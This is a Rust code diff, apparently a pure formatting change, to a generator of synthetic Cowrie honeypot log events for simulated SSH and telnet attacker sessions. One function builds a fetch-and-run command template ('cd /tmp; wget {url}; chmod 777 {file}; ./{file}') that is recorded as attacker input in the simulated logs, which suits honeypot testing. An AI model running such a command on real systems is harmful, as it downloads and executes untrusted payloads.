@@ -23,7 +23,17 @@ pub(super) fn log(pools: &Pools, rng: &mut StdRng, start_us: i64, lines: &mut Ve
     let attacker = pick(rng, &pools.attackers);
     let sensor = pick(rng, &pools.sensors);
     let id = digits(rng, 12);
-    Session { pools, rng, attacker, sensor, id, start_us, at_us: start_us, lines }.run();
+    Session {
+        pools,
+        rng,
+        attacker,
+        sensor,
+        id,
+        start_us,
+        at_us: start_us,
+        lines,
+    }
+    .run();
 }
 
 impl Session<'_> {
@@ -46,16 +56,22 @@ impl Session<'_> {
     fn connect(&mut self) {
         let port = if self.attacker.is_telnet { 2223 } else { 2222 };
         let src_port = self.rng.random_range(1024..=65535);
-        self.event("session.connect", json!({
-            "src_port": src_port, "dst_ip": self.sensor.ip, "dst_port": port,
-            "message": format!("New connection: {} [session: {}]", self.attacker.ip, self.id),
-        }));
+        self.event(
+            "session.connect",
+            json!({
+                "src_port": src_port, "dst_ip": self.sensor.ip, "dst_port": port,
+                "message": format!("New connection: {} [session: {}]", self.attacker.ip, self.id),
+            }),
+        );
     }
 
     fn key_exchange(&mut self) {
         let client = &self.pools.clients[self.attacker.client];
         let message = format!("Remote SSH version: {}", client.version);
-        self.event("client.version", json!({"version": client.version, "message": message}));
+        self.event(
+            "client.version",
+            json!({"version": client.version, "message": message}),
+        );
         self.event("client.kex", json!({
             "hassh": client.hassh, "kexAlgs": client.kex, "keyAlgs": client.keys, "encCS": client.ciphers,
             "macCS": client.macs, "compCS": ["none"], "langCS": [""],
@@ -79,18 +95,30 @@ impl Session<'_> {
         if self.rng.random_bool(0.3) {
             let (name, value) = pick(self.rng, VARIABLES);
             let message = format!("request_env: {name}={value}");
-            self.event("client.var", json!({"name": name, "value": value, "message": message}));
+            self.event(
+                "client.var",
+                json!({"name": name, "value": value, "message": message}),
+            );
         }
         if self.rng.random_bool(0.25) {
             return self.tunnel();
         }
-        self.event("session.params", json!({"arch": "linux-x64-lsb", "message": []}));
+        self.event(
+            "session.params",
+            json!({"arch": "linux-x64-lsb", "message": []}),
+        );
         for _ in 0..self.rng.random_range(1..=12) {
             let input = *pick(self.rng, COMMANDS);
-            self.event("command.input", json!({"input": input, "message": format!("CMD: {input}")}));
+            self.event(
+                "command.input",
+                json!({"input": input, "message": format!("CMD: {input}")}),
+            );
             if self.rng.random_bool(0.1) {
                 let message = format!("Command not found: {input}");
-                self.event("command.failed", json!({"input": input, "message": message}));
+                self.event(
+                    "command.failed",
+                    json!({"input": input, "message": message}),
+                );
             }
         }
         if self.rng.random_bool(0.5) {
@@ -98,7 +126,8 @@ impl Session<'_> {
         }
         let ttylog = format!("var/lib/cowrie/tty/{}", self.id);
         let message = format!("Closing TTY Log: {ttylog}");
-        let record = json!({"ttylog": ttylog, "size": 1024, "duplicate": false, "message": message});
+        let record =
+            json!({"ttylog": ttylog, "size": 1024, "duplicate": false, "message": message});
         self.event("log.closed", record);
     }
 
@@ -106,10 +135,16 @@ impl Session<'_> {
         let payload = pick(self.rng, &self.pools.payloads);
         let (url, file, sha256) = (&payload.url, &payload.file, &payload.sha256);
         let input = format!("cd /tmp; wget {url}; chmod 777 {file}; ./{file}");
-        self.event("command.input", json!({"input": input, "message": format!("CMD: {input}")}));
+        self.event(
+            "command.input",
+            json!({"input": input, "message": format!("CMD: {input}")}),
+        );
         if self.rng.random_bool(0.2) {
             let message = format!("Attempt to download file(s) from URL ({url}) failed");
-            return self.event("session.file_download.failed", json!({"url": url, "message": message}));
+            return self.event(
+                "session.file_download.failed",
+                json!({"url": url, "message": message}),
+            );
         }
         self.event("session.file_download", json!({
             "url": url, "outfile": format!("var/lib/cowrie/downloads/{sha256}"), "shasum": sha256,
@@ -132,7 +167,10 @@ impl Session<'_> {
         let seconds = (self.at_us - self.start_us) as f64 / 1e6;
         let duration = format!("{seconds:.1}");
         let message = format!("Connection lost after {duration} seconds");
-        self.event("session.closed", json!({"duration": duration, "message": message}));
+        self.event(
+            "session.closed",
+            json!({"duration": duration, "message": message}),
+        );
     }
 
     /// Logs one record, some time after the one before.
@@ -143,16 +181,24 @@ impl Session<'_> {
             record.extend(own);
         }
         let time = DateTime::from_timestamp_micros(self.at_us).expect("a time of this century");
-        let protocol = if self.attacker.is_telnet { "telnet" } else { "ssh" };
+        let protocol = if self.attacker.is_telnet {
+            "telnet"
+        } else {
+            "ssh"
+        };
         let common = [
             ("sensor", self.sensor.name.to_owned()),
-            ("timestamp", time.format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string()),
+            (
+                "timestamp",
+                time.format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string(),
+            ),
             ("src_ip", self.attacker.ip.clone()),
             ("session", self.id.clone()),
             ("protocol", protocol.to_owned()),
         ];
         record.extend(common.map(|(field, text)| (field.to_owned(), text.into())));
-        self.lines.push((self.at_us, Value::Object(record).to_string()));
+        self.lines
+            .push((self.at_us, Value::Object(record).to_string()));
         self.at_us += self.rng.random_range(20_000..3_000_000);
     }
 }
